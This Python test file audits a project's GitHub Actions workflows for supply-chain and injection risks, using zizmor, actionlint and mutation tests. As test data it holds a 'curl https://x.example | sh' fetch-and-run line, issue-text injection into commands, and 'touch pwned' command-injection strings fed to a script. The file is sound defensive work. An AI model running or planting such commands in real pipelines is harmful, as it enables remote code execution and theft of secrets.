"""The workflows: safe by zizmor's strictest judgement, and made of commands that run here."""

import re
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml

from tests.project import ROOT

GITHUB = ROOT / ".github"
WORKFLOWS = sorted((GITHUB / "workflows").glob("*.yml"))
NAMES = [path.name for path in WORKFLOWS]
MAKEFILE = (ROOT / "Makefile").read_text("utf-8")

WRITERS = {
    ("publish.yml", "attest"): {"id-token": "write", "attestations": "write"},
    ("publish.yml", "release"): {"contents": "write"},
    ("publish.yml", "deploy"): {"pages": "write", "id-token": "write"},
    ("suggest.yml", "draft"): {"contents": "write", "pull-requests": "write"},
}
"""The only jobs that may write anything, and all that they may."""

# What whoever opens a pull request or an issue can choose, as GitHub's security guide lists it.
_UNTRUSTED = re.compile(
    r"github\.(?:head_ref|event\.(?:(?:issue|pull_request|discussion|comment|review|head_commit|commits)\b.*"
    r"\.(?:title|body|ref|label|message|email|name|default_branch|page_name)|pages|workflow_run))"
)


def tool(name: str) -> Path:
    return Path(sys.executable).with_name(name)


def judge(*paths: Path) -> subprocess.CompletedProcess[str]:
    """Let zizmor judge workflows as its auditor persona, offline."""
    command: list[str | Path] = [tool("zizmor"), "--offline", "--persona", "auditor", "--no-progress", *paths]
    return subprocess.run(command, capture_output=True, text=True, check=False)


def read(path: Path) -> dict[Any, Any]:
    """Read a workflow; YAML takes its key `on` for the word yes."""
    workflow = yaml.safe_load(path.read_text("utf-8"))
    assert isinstance(workflow, dict)
    return workflow


def faults(path: Path) -> list[str]:
    """Hold a workflow against the rules of this project."""
    workflow, text = read(path), path.read_text("utf-8")
    jobs = workflow["jobs"].items()
    steps = [step for _, job in jobs for step in job.get("steps", [])]
    return [
        *([] if workflow.get("permissions") == {} else ["the workflow as a whole has rights"]),
        *(f"{name}: {fault}" for name, job in jobs for fault in _job_faults(path.name, name, job)),
        *(f"{fault}: {step}" for step in steps for fault in _step_faults(step)),
        *(
            ["a pull request meets a secret"]
            if "pull_request" in str(workflow[True]) and "secrets" in text
            else []
        ),
        *(["code of a pull request runs with rights"] if "pull_request_target" in text else []),
    ]


def _job_faults(file: str, name: str, job: dict[str, Any]) -> list[str]:
    rights = job.get("permissions")
    if not isinstance(rights, dict):
        return ["does not say its rights"]
    writes = {scope: right for scope, right in rights.items() if right == "write"}
    return [
        *([] if writes == WRITERS.get((file, name), {}) else [f"may write {sorted(writes)}"]),
        *([] if "timeout-minutes" in job else ["may run for ever"]),
    ]


def _step_faults(step: dict[str, Any]) -> list[str]:
    uses, run = step.get("uses", ""), step.get("run", "")
    settings = step.get("with", {})
    return [
        *(["not pinned to a commit"] if uses and not re.search(r"@[0-9a-f]{40}$", uses) else []),
        *(["not one of GitHub's own"] if uses and not uses.startswith("actions/") else []),
        *(
            ["keeps its credentials"]
            if "checkout" in uses and settings.get("persist-credentials") is not False
            else []
        ),
        *(["an expression in a command"] if "${{" in run else []),
        *(["no target of the Makefile"] if run and not _is_target(run) else []),
        *(["what a stranger wrote"] if _UNTRUSTED.search(str(step)) else []),
    ]


def _is_target(command: str) -> bool:
    words = command.split()
    return words[0] == "make" and bool(re.search(rf"^{re.escape(words[1])}:", MAKEFILE, re.MULTILINE))


@pytest.mark.parametrize("path", WORKFLOWS, ids=NAMES)
def test_a_workflow_keeps_the_rules_of_this_project(path: Path) -> None:
    assert faults(path) == []


def test_the_auditor_has_nothing_to_report() -> None:
    answer = judge(GITHUB)
    assert answer.returncode == 0, answer.stdout
    assert "zizmor: ignore" not in "".join(path.read_text("utf-8") for path in WORKFLOWS)


def test_actionlint_has_nothing_to_report() -> None:
    answer = subprocess.run(
        [tool("actionlint"), "-no-color", *WORKFLOWS], capture_output=True, text=True, check=False
    )
    assert answer.returncode == 0, answer.stdout


def replacing(old: str, new: str) -> Callable[[str], str]:
    """Weaken a workflow by writing something else somewhere; patterns are regular expressions."""

    def weaken(text: str) -> str:
        weak = re.sub(old, new, text, count=1, flags=re.MULTILINE)
        assert weak != text
        return weak

    return weaken


WEAKENED = {
    "an action by its tag": ("check.yml", replacing(r"@[0-9a-f]{40} # v7.0.1", "@v7")),
    "an action of a stranger": ("check.yml", replacing("actions/setup-python", "kites/setup-python")),
    "credentials that stay": (
        "check.yml",
        replacing("persist-credentials: false", "persist-credentials: true"),
    ),
    "rights for the whole workflow": ("publish.yml", replacing("^permissions: {}", "permissions: write-all")),
    "a job with a right too many": ("check.yml", replacing("contents: read", "contents: write")),
    "a job without rights of its own": (
        "links.yml",
        replacing(r"    permissions:\n      contents: read\n", ""),
    ),
    "code of strangers with rights": ("check.yml", replacing("  pull_request:", "  pull_request_target:")),
    "a secret for a pull request": (
        "check.yml",
        replacing(r"run: make test", "run: make test\n        env:\n          KEY: ${{ secrets.KEY }}"),
    ),
    "an issue's text in a command": (
        "suggest.yml",
        replacing("run: make suggestion", "run: make suggestion TITLE='${{ github.event.issue.title }}'"),
    ),
    "an issue's text in the environment of a command": (
        "suggest.yml",
        replacing(r"ISSUE: \$\{\{ github.event.issue.number }}", "ISSUE: ${{ github.event.issue.body }}"),
    ),
    "a command of its own": ("check.yml", replacing("run: make test", "run: curl https://x.example | sh")),
    "a job that may run for ever": ("links.yml", replacing("    timeout-minutes: 60\n", "")),
}


@pytest.mark.parametrize("weakness", WEAKENED)
def test_a_weakened_copy_is_caught(weakness: str, tmp_path: Path) -> None:
    name, weaken = WEAKENED[weakness]
    copy = tmp_path / name
    copy.write_text(weaken((GITHUB / "workflows" / name).read_text("utf-8")), "utf-8")
    assert faults(copy)


def test_a_version_stands_beside_every_pinned_commit() -> None:
    for path in WORKFLOWS:
        for line in path.read_text("utf-8").splitlines():
            assert "uses:" not in line or re.search(r"@[0-9a-f]{40} # v\d+\.\d+\.\d+$", line), line


def test_one_action_has_one_commit_everywhere() -> None:
    used = {
        found for path in WORKFLOWS for found in re.findall(r"uses: (\S+)@(\w+)", path.read_text("utf-8"))
    }
    assert len({action for action, _ in used}) == len(used)


def test_pull_requests_get_no_secret_and_no_right_to_write() -> None:
    workflow = read(GITHUB / "workflows" / "check.yml")
    assert list(workflow[True]) == ["pull_request"]
    assert all(job["permissions"] == {"contents": "read"} for job in workflow["jobs"].values())


def test_a_deployment_is_never_cut_off() -> None:
    assert read(GITHUB / "workflows" / "publish.yml")["concurrency"]["cancel-in-progress"] is False


def test_only_the_label_of_a_maintainer_makes_a_pull_request() -> None:
    workflow = read(GITHUB / "workflows" / "suggest.yml")
    form = yaml.safe_load((GITHUB / "ISSUE_TEMPLATE" / "article.yml").read_text("utf-8"))
    assert workflow[True] == {"issues": {"types": ["labeled"]}}
    (job,) = workflow["jobs"].values()
    assert job["if"] == "github.event.label.name == 'accepted'"
    assert "accepted" not in form["labels"], "whoever writes an issue gets the form's labels"


def test_a_proposal_takes_nothing_but_the_number_of_an_issue(tmp_path: Path) -> None:
    for number in ("", "7; touch pwned", "$(touch pwned)", "-7"):
        answer = subprocess.run(
            [GITHUB / "propose.sh"], cwd=tmp_path, env={"ISSUE": number, "PATH": "/usr/bin:/bin"}, check=False
        )
        assert answer.returncode == 2
    assert list(tmp_path.iterdir()) == []
